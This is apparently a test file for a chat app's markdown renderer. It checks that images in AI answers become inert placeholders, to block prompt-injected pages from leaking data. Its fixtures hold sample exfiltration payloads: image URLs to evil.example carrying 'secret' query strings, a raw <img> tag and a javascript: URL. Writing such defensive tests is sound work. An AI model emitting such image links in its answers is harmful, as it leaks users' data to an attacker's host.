import { describe, expect, it } from 'vitest';
import { createStreamCache, renderStreaming } from '../../../shared/markdown/blocks.ts';
import { IMAGE_PLACEHOLDER_ATTR, renderMarkdown } from '../../../shared/markdown/render.ts';

/**
 * Images in answers render as placeholders that load nothing (docs/security.md): an answer a
 * prompt-injected page steered must not make the browser send what the model read to another host.
 */

function dom(markdown: string, imageLabel?: string): HTMLElement {
  const root = document.createElement('div');
  root.innerHTML = renderMarkdown(markdown, undefined, undefined, imageLabel);
  return root;
}

const placeholders = (root: HTMLElement) => [...root.querySelectorAll<HTMLElement>(`[${IMAGE_PLACEHOLDER_ATTR}]`)];

const ANSWER = [
  'Inline ![a chart](https://evil.example/c.png?q=secret-1) here.',
  'Reference ![logo][logo] there.',
  '[![build passing](https://badges.example:8443/b.svg?q=secret-3)](https://ci.example/run)',
  '<img src="https://evil.example/raw.png?q=secret-4">',
  '',
  '[logo]: https://cdn.example/logo.png?q=secret-2 "Logo"',
].join('\n\n');

describe('images in answers', () => {
  it('become placeholders naming their host, inline, reference-style and as badges: no <img> at all', () => {
    const root = dom(ANSWER);
    expect(root.querySelector('img')).toBeNull();
    expect(placeholders(root).map((p) => p.getAttribute(IMAGE_PLACEHOLDER_ATTR))).toEqual([
      'https://evil.example/c.png?q=secret-1',
      'https://cdn.example/logo.png?q=secret-2',
      'https://badges.example:8443/b.svg?q=secret-3',
    ]);
    expect(placeholders(root).map((p) => p.querySelector('button')!.textContent)).toEqual([
      'Load image from evil.example',
      'Load image from cdn.example',
      'Load image from badges.example:8443',
    ]);
    // The alt text is kept for the image once loaded; the address is shown on hover.
    expect(placeholders(root).map((p) => p.getAttribute('data-alt'))).toEqual(['a chart', 'logo', 'build passing']);
    expect(placeholders(root)[0].querySelector('button')!.getAttribute('title')).toBe('https://evil.example/c.png?q=secret-1');
    // Raw HTML is text.
    expect(root.textContent).toContain('<img src="https://evil.example/raw.png?q=secret-4">');
  });

  it('keeps a badge inside its link, the placeholder a plain button that submits nothing', () => {
    const badge = placeholders(dom(ANSWER))[2];
    expect(badge.closest('a')!.getAttribute('href')).toBe('https://ci.example/run');
    expect(badge.querySelector('button')!.getAttribute('type')).toBe('button');
  });

  it('uses the label it is given, with the host in place of {host}, escaped', () => {
    const root = dom('![x](https://例え.example/a.png)', '加载来自 {host} 的图片');
    expect(root.querySelector('button')!.textContent).toBe('加载来自 xn--r8jz45g.example 的图片');
    const tricky = dom('![x](https://a$&b.example/a.png)');
    expect(tricky.querySelector('button')!.textContent).toBe('Load image from a$&b.example');
  });

  it('shows only the alt text of an image that is not a web address', () => {
    const root = dom('![write to me](mailto:someone@example.com) and ![js](javascript:alert(1))');
    expect(placeholders(root)).toEqual([]);
    expect(root.querySelector('img, button')).toBeNull();
    expect(root.textContent).toContain('write to me');
  });

  it('renders placeholders the same while streaming, and in the language the cache was made for', () => {
    const zh = '加载来自 {host} 的图片';
    const cache = createStreamCache(undefined, undefined, zh);
    const html = renderStreaming(ANSWER, cache, { done: true }).map((b) => b.html).join('');
    expect(html).toBe(renderMarkdown(ANSWER, undefined, undefined, zh));
    // A cache in another language does not hand back the Chinese blocks.
    const en = renderStreaming(ANSWER, createStreamCache(), { done: true }).map((b) => b.html).join('');
    expect(en).toContain('Load image from evil.example');
    expect(en).not.toContain('加载');
  });
});

describe('links in answers', () => {
  it('open in a new tab with rel="noopener noreferrer" (and nofollow), autolinks too', () => {
    const root = dom('[site](https://evil.example/x) and https://other.example/y');
    const links = [...root.querySelectorAll('a')];
    expect(links).toHaveLength(2);
    for (const link of links) {
      expect(link.getAttribute('target')).toBe('_blank');
      expect(link.getAttribute('rel')!.split(' ')).toEqual(expect.arrayContaining(['noopener', 'noreferrer']));
    }
  });

  it('citation markers too', () => {
    const root = document.createElement('div');
    root.innerHTML = renderMarkdown('Otters raft [1].', undefined, [{ index: 1, title: 'Otters', url: 'https://evil.example/o' }]);
    expect(root.querySelector('.md-cite-link')!.getAttribute('rel')).toBe('noopener noreferrer');
  });
});
